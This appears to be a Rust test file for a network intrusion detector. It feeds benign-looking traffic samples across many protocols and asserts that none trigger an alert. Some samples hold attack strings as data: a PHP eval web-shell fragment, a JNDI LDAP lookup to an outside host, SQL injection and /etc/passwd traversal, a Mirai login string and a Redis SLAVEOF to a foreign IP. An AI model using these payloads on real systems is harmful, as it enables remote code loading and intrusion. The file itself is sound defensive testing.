//! Ordinary traffic, with words in it that attacks use too.

use netwatch_common::Proto::{self, Tcp, Udp};

use super::{answer, found, sample, starter};

const FROM_CLIENTS: &[(Proto, u16, &[u8])] = &[
    (Tcp, 80, b"GET /search?q=western+union+select+branch&lang=en HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.5\r\nCookie: sid=8f14e45fceea167a; consent=1\r\nConnection: keep-alive\r\n\r\n"),
    (Tcp, 80, b"GET /wiki/SQL_injection?action=raw&section=union_select HTTP/1.1\r\nHost: example.org\r\nReferer: https://www.example.com/search?q=how+to+prevent+'or+1'\r\n\r\n"),
    (Tcp, 80, b"GET /a/../b/./c.css HTTP/1.1\r\nHost: example.org\r\nIf-None-Match: W/\"5d8c72a5edda8\"\r\n\r\n"),
    (Tcp, 80, b"GET /search?q=o%27reilly+and+sons&price=10..20 HTTP/1.1\r\nHost: example.org\r\n\r\n"),
    (Tcp, 80, b"GET /calendar?from=2024-01-01&to=2024-12-31&sort=name+asc HTTP/1.1\r\nHost: example.org\r\n\r\n"),
    (Tcp, 80, b"GET /s?q=%22to+be+or+not+to+be%22+and+%22hamlet%22&n=1 HTTP/1.1\r\nHost: example.org\r\n\r\n"),
    (Tcp, 80, b"GET /t?expr=(a=1)+and+(b=2) HTTP/1.1\r\nHost: example.org\r\n\r\n"),
    (Tcp, 8080, b"POST /api/v2/items HTTP/1.1\r\nHost: api.example.org\r\nContent-Type: application/json\r\nContent-Length: 109\r\n\r\n{\"query\":\"select name, price from items where price > 10 or price = 0\",\"sleep\":5,\"system\":\"() { return 1; }\"}"),
    (Tcp, 8080, b"POST /graphql HTTP/1.1\r\nHost: api.example.org\r\nContent-Type: application/json\r\n\r\n{\"query\":\"query($id: ID!) { node(id: $id) { ... on User { name } } }\",\"variables\":{\"id\":\"1\"}}"),
    (Tcp, 80, b"POST /login HTTP/1.1\r\nHost: example.org\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nuser=alice&password=p%27a%22ss%3Dword%2For+1&next=%2Fhome"),
    (Tcp, 80, b"POST /forum/post HTTP/1.1\r\nHost: example.org\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\nUse <?php echo $_GET['name']; ?> and escape it first. Logs go to ${sys:logdir}/app.log.\r\n--b--"),
    (Tcp, 80, b"POST /wp-admin/async-upload.php HTTP/1.1\r\nHost: example.org\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\r\n--b--"),
    (Tcp, 80, b"PROPFIND /dav/ HTTP/1.1\r\nHost: example.org\r\nDepth: 1\r\nContent-Type: application/xml\r\n\r\n<?xml version=\"1.0\"?><D:propfind xmlns:D=\"DAV:\"><D:allprop/></D:propfind>"),
    (Tcp, 80, b"GET /nikto-review HTTP/1.1\r\nHost: blog.example.org\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n"),
    (Tcp, 80, b"GET /.well-known/acme-challenge/abc HTTP/1.1\r\nHost: example.org\r\n\r\n"),
    (Tcp, 80, b"GET /info/refs?service=git-upload-pack HTTP/1.1\r\nHost: git.example.org\r\nUser-Agent: git/2.43.0\r\n\r\n"),
    (Tcp, 80, b"GET /chat HTTP/1.1\r\nHost: example.org\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"),
    (Tcp, 9200, b"POST /logs/_search HTTP/1.1\r\nHost: es.example.org:9200\r\nContent-Type: application/json\r\n\r\n{\"query\":{\"match\":{\"message\":\"union select\"}},\"size\":10}"),
    (Tcp, 80, b"POST /HNAP1/ HTTP/1.1\r\nHost: 192.0.2.1\r\nSOAPAction: \"http://purenetworks.com/HNAP1/Login\"\r\nContent-Type: text/xml\r\n\r\n<?xml version=\"1.0\"?><soap:Envelope/>"),
    (Tcp, 49152, b"POST /ctl/IPConn HTTP/1.1\r\nHost: 192.0.2.1:49152\r\nSOAPAction: \"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\"\r\n\r\n<NewInternalClient>192.0.2.7</NewInternalClient><NewPortMappingDescription>chat; voice</NewPortMappingDescription>"),
    (Tcp, 443, b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03\x8e\x1f\x22\x51\x90\x77\x0a\x4c\x93\x0e\x1b\x5c\x77\x31\x89\xe0\x42\x6b\x13\x0d\xaa\x55\x10\x02\xf3\x90\x71\x62\x18\x20\0\0\x2a\x13\x01\x13\x02\x13\x03\0\0\0\x10\0\x0e\0\0\x0bexample.org"),
    (Tcp, 22, b"SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13\r\n"),
    (Tcp, 25, b"EHLO mail.example.org\r\nMAIL FROM:<alice@example.org>\r\nRCPT TO:<bob@example.com>\r\nDATA\r\nSubject: union select committee ' or so\r\n\r\nSee /etc/passwd and ../../x\r\n.\r\n"),
    (Tcp, 23, b"\xff\xfd\x03\xff\xfb\x18\xff\xfb\x1falice\r\ncorrect horse battery\r\nls -l /bin/busybox\r\n/bin/busybox ash\r\n"),
    (Tcp, 445, b"\0\0\0\x45\xfeSMB\x40\0\x01\0\0\0\0\0\0\0\x1f\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\xff\xfe\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x24\0\x05\0\x01"),
    (Tcp, 445, b"\0\0\0\x2f\xffSMB\x72\0\0\0\0\x18\x53\xc8\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\xff\xfe\0\0\0\0\0\x0c\0\x02NT LM 0.12\0"),
    (Tcp, 6379, b"*2\r\n$4\r\nAUTH\r\n$6\r\nsecret\r\n*3\r\n$3\r\nSET\r\n$6\r\nconfig\r\n$7\r\nset dir\r\n"),
    (Tcp, 6379, b"*3\r\n$7\r\nSLAVEOF\r\n$9\r\n192.0.2.9\r\n$4\r\n6379\r\n"),
    (Tcp, 3389, b"\x03\0\0\x2b\x26\xe0\0\0\0\0\0Cookie: mstshash=Administr\r\n\x01\0\x08\0\x0b\0\0\0"),
    (Tcp, 5555, b"CNXN\x01\0\0\x01\0\0\x10\0\x23\0\0\0\0\0\0\0\xbc\xb1\xa7\xb1host::features=shell_v2,cmd\0"),
    (Tcp, 8545, b"{\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"eth_getBalance\",\"params\":[\"0x407d73d8a49eeb85d32cf465507dd71d507100c1\",\"latest\"]}"),
    (Tcp, 3000, b"{\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"alice\",\"agent\":\"Mozilla/5.0\"},\"id\":1}"),
    (Tcp, 1883, b"\x10\x16\0\x04MQTT\x04\x02\0\x3c\0\x0amining-rig"),
    (Tcp, 2375, b"POST /v1.43/containers/create?name=web HTTP/1.1\r\nHost: 192.0.2.80\r\n\r\n{\"Image\":\"nginx\",\"HostConfig\":{\"Binds\":[\"/srv:/usr/share/nginx/html:ro\"]}}"),
    (Udp, 53, b"\x1a\x2b\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\x07example\x03org\0\0\x01\0\x01"),
    (Udp, 123, b"\xe3\0\x06\xec\0\0\0\0\0\0\0\0\x31\x4e\x31\x34\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\xe9\x9d\x5b\x8a\x12\x34\x56\x78"),
    (Udp, 5060, b"REGISTER sip:example.org SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.9:5060;branch=z9hG4bK\r\nUser-Agent: Yealink SIP-T46S 66.86.0.15\r\n\r\n"),
    (Udp, 443, b"\xc0\0\0\0\x01\x08\x83\x94\xc8\xf0\x3e\x51\x57\x08\0\0\x44\x9e"),
];

const FROM_SERVERS: &[(Proto, u16, &[u8])] = &[
    (Tcp, 80, b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n<?php eval($_POST['x']); ${jndi:ldap://203.0.113.5/a} ' or 1=1 union select 1,2 ../../../etc/passwd"),
    (Tcp, 445, b"\0\0\0\x23\xffSMB\x32\x02\0\0\xc0\x98\x07\xc0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x08\xff\xfe\0\x08\x41\0\0\0\0"),
    (Tcp, 23, b"BusyBox v1.36.1 () built-in shell (ash)\r\nlogin: /bin/busybox MIRAI\r\n"),
    (Tcp, 3333, b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n"),
];

#[test]
fn ordinary_traffic_is_left_alone() {
    let starter = starter();
    let clients = FROM_CLIENTS.iter().map(|(proto, port, bytes)| sample(*proto, *port, bytes));
    let servers = FROM_SERVERS.iter().map(|(proto, port, bytes)| answer(*proto, *port, bytes));
    for sample in clients.chain(servers) {
        assert_eq!(found(&starter, &sample), [""; 0], "{}", String::from_utf8_lossy(sample.bytes));
    }
}
